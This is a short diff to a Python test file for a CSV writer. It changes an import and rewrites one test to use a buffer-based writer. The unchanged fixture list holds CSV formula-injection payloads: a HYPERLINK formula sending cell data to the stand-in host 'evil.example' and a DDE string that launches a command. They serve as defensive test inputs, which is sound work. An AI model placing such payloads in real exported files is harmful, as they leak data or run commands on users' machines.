@@ -15,7 +15,7 @@ from pathlib import Path
 import pytest
 
 from adjudication.analysis import rendering
-from concord.csv_writer import csv_cell, csv_text
+from concord.csv_writer import csv_cell, csv_writer
 
 ROOT = Path(__file__).resolve().parent.parent
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1"]
@@ -46,7 +46,9 @@ def test_numbers_and_plain_text_are_left_alone(cell):
 
 
 def test_non_text_cells_are_written_as_they_are():
-    assert _cells(csv_text([[1, -2.5, None, True]])) == ["1", "-2.5", "", "True"]
+    buffer = io.StringIO()
+    csv_writer(buffer).writerows([[1, -2.5, None, True]])
+    assert _cells(buffer.getvalue()) == ["1", "-2.5", "", "True"]
 
 
 def _stat(**extra):
